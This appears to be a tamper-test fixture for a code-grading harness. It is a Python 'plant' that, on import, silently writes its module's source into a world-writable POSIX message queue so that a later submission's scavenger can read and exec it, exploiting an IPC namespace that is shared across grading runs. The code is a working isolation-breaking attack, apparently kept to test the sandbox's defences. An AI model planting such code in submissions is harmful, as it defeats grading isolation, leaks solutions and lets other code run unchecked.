"""[attnkit-tamper] plant_posix_mq -- family (c), persistence channel: a POSIX message queue.

Append to a correct stage module (attacker: the solution of stage k, here s07). At import it
creates the POSIX message queue /atk-plant-<module> (``mq_open`` through ctypes, mode 0666; no
/dev/mqueue mount is needed) and sends this module's source (payload cut off, plus the stage
modules it imports; zlib, an 8-byte length first) in messages of at most 8000 bytes. Queues live
in the IPC namespace until mq_unlink. ``scavenge.py`` drains them without waiting, sends them
back, and execs the source.

Old design: the warm zygote's IPC namespace is shared by every submission it grades and the reset
does not touch message queues: expected to leak.

Needs the prelude plant_common before it (kit_tests/tamper.py, PRELUDES), for _atk_framed_source and
_atk_quietly.
"""


def _atk_plant_posix_mq(module, path):
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    libc.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_void_p]
    libc.mq_send.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_uint]
    libc.mq_close.argtypes = [ctypes.c_int]
    queue = libc.mq_open(f"/atk-plant-{module}".encode(), os.O_CREAT | os.O_EXCL | os.O_WRONLY | os.O_NONBLOCK,
                         0o666, None)
    if queue < 0:
        return
    try:
        data = _atk_framed_source(module, path)
        for start in range(0, len(data), 8000):
            chunk = data[start:start + 8000]
            libc.mq_send(queue, chunk, len(chunk), 0)
    finally:
        libc.mq_close(queue)


_atk_quietly(_atk_plant_posix_mq, __name__, __file__)
